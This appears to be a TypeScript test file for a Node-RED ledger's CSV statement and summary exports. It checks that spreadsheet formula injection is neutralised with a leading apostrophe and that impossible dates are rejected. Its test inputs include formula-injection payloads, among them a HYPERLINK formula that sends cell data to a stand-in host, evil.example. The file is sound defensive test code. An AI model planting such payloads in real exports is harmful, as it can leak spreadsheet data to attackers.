/**
 * The ledger's CSV exports (the tenant API's statement and the admin export's statement and summary), from a
 * real ledger node on SQLite: text that a spreadsheet would run as a formula (=, +, -, @, tab or carriage return
 * first) is neutralised with a leading apostrophe, per OWASP; amounts the export writes stay numbers, a debit's
 * minus included. The admin export refuses a date that does not exist with 400 naming the field.
 */
import assert from 'node:assert/strict';
import { neutralisedText } from '../../dist/nodes/core/ledger/statement';
import {
  catchNode,
  collect,
  helper,
  loadBuiltNode,
  sleep,
  startServer,
  stopServer,
  tempUserDir,
} from '../support/node-red-helper';

const storeNode = loadBuiltNode('store/prepay-store.js');
const ledgerNode = loadBuiltNode('ledger/prepay-ledger.js');

/** RFC 4180 cells of one CSV line (quotes undone). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i += 1) {
    const c = line[i];
    if (quoted && c === '"' && line[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (quoted && c === '"') {
      quoted = false;
    } else if (quoted) {
      cell += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      out.push(cell);
      cell = '';
    } else {
      cell += c;
    }
  }
  out.push(cell);
  return out;
}

/** Lines of a CSV document whose quoted cells may hold line breaks. */
function lines(csv: string): string[] {
  const out: string[] = [];
  let current = '';
  for (const part of csv.split('\r\n')) {
    current = current ? `${current}\r\n${part}` : part;
    if ((current.match(/"/g) ?? []).length % 2 === 0) {
      out.push(current);
      current = '';
    }
  }
  return out.filter((l) => l !== '');
}

describe('CSV exports: formula injection neutralised, amounts kept as numbers', function () {
  beforeEach(async function () {
    helper.settings({ userDir: tempUserDir() });
    await startServer();
  });

  afterEach(async function () {
    await helper.unload();
    await stopServer();
    helper.settings({});
  });

  it('prefixes text cells that start like a formula, and only those', function () {
    for (const text of ['=1+2', '+41', '-2+3', '@SUM(A1)', '\tx', '\rx', '=HYPERLINK("http://x")'])
      assert.equal(neutralisedText(text), `'${text}`);
    for (const text of ['T0101', 'pay:pi_1', '1+2', 'a=b', '', "'quoted"])
      assert.equal(neutralisedText(text), text);
  });

  it('neutralises hostile names and references in the statement and summary, on the admin API and by command', async function () {
    await helper.load(
      [storeNode, ledgerNode, catchNode],
      [
        { id: 's1', type: 'prepay-store', backend: 'sqlite', file: 'ledger.db', synchronous: 'FULL' },
        {
          id: 'l1',
          type: 'prepay-ledger',
          store: 's1',
          emergencyMode: 'off',
          stateOutput: 'change',
          snapshotMinutes: 0,
          timezone: 'UTC',
          wires: [['results'], []],
        },
        { id: 'results', type: 'helper' },
        { id: 'c1', type: 'catch', scope: ['l1'], uncaught: false, wires: [['caught']] },
        { id: 'caught', type: 'helper' },
      ],
    );
    const results = collect(helper.getNode('results'));
    const send = async (payload: Record<string, unknown>): Promise<void> => {
      helper.getNode('l1').receive({ payload });
      await sleep(60);
    };
    await send({
      command: 'open',
      accountId: '=T1',
      currency: 'GBP',
      tenant: '@SUM(A1:A9)',
      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      reference: 'open-T1',
    });
    await send({ command: 'topup', accountId: '=T1', amount: 5000, method: '=cmd', reference: '+topup-1' });
    await send({ command: 'adjust', accountId: '=T1', amount: -1250, reason: '-fee', reference: '-2+3' });
    await send({ command: 'adjust', accountId: '=T1', amount: 10, reason: 'tab', reference: '\tTAB' });

    const statement = await helper
      .request()
      .get(`/prepay-ledger/l1/statement?account=${encodeURIComponent('=T1')}&format=csv`)
      .expect(200);
    const rows = lines(statement.text).map(cells);
    const byReference = new Map(rows.map((r) => [r[5], r]));
    assert.ok(byReference.has("'+topup-1"), statement.text);
    assert.ok(byReference.has("'-2+3"));
    assert.ok(byReference.has("'\tTAB"));
    for (const row of rows.slice(1)) assert.equal(row[0], "'=T1", 'the account id');
    // Amounts stay numbers: the adjustment's -12.50 has its minus, the balance after it too.
    const fee = byReference.get("'-2+3") ?? [];
    assert.deepEqual([fee[6], fee[8]], ['-12.50', '37.50']);
    assert.deepEqual(byReference.get("'+topup-1")?.[6], '50.00');
    // No cell can start a formula: nothing starts with =, +, @, a tab or a CR, and a minus starts only a number.
    for (const cell of rows.flat())
      assert.ok(!/^[=+@\t\r]/.test(cell) && (!cell.startsWith('-') || /^-\d+\.\d{2}$/.test(cell)), cell);

    // The same statement by command (what the tenant API's statement endpoint sends).
    await send({ command: 'statement', accountId: '=T1', format: 'csv' });
    const csv = (results[results.length - 1]?.payload as { csv: string }).csv;
    assert.equal(csv, statement.text);

    const summary = await helper
      .request()
      .get('/prepay-ledger/l1/summary?from=2000-01-01&to=2100-01-01&format=csv')
      .expect(200);
    const [, line] = lines(summary.text).map(cells);
    assert.deepEqual(line?.slice(0, 4), [
      "'=T1",
      "'@SUM(A1:A9)",
      '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      'GBP',
    ]);
    assert.deepEqual(line?.slice(6, 11), ['0.00', '50.00', '0.00', '0.00', '-12.40']);
  });

  it('refuses an impossible date in the admin export with 400 naming the field', async function () {
    await helper.load(
      [storeNode, ledgerNode],
      [
        { id: 's1', type: 'prepay-store', backend: 'sqlite', file: 'ledger.db', synchronous: 'FULL' },
        {
          id: 'l1',
          type: 'prepay-ledger',
          store: 's1',
          snapshotMinutes: 0,
          timezone: 'UTC',
          wires: [[], []],
        },
      ],
    );
    const from = await helper
      .request()
      .get('/prepay-ledger/l1/summary?from=2024-02-30&to=2024-03-31')
      .expect(400);
    assert.match(from.text, /from: 2024-02-30 is not a date: 2024-02 has 29 days/);
    const to = await helper
      .request()
      .get('/prepay-ledger/l1/summary?from=2024-01-01&to=2024-13-01')
      .expect(400);
    assert.match(to.text, /to: 2024-13-01 is not a date: there is no month 13/);
    await helper.request().get('/prepay-ledger/l1/summary?from=2024-02-01&to=2024-02-29').expect(200);
  });
});
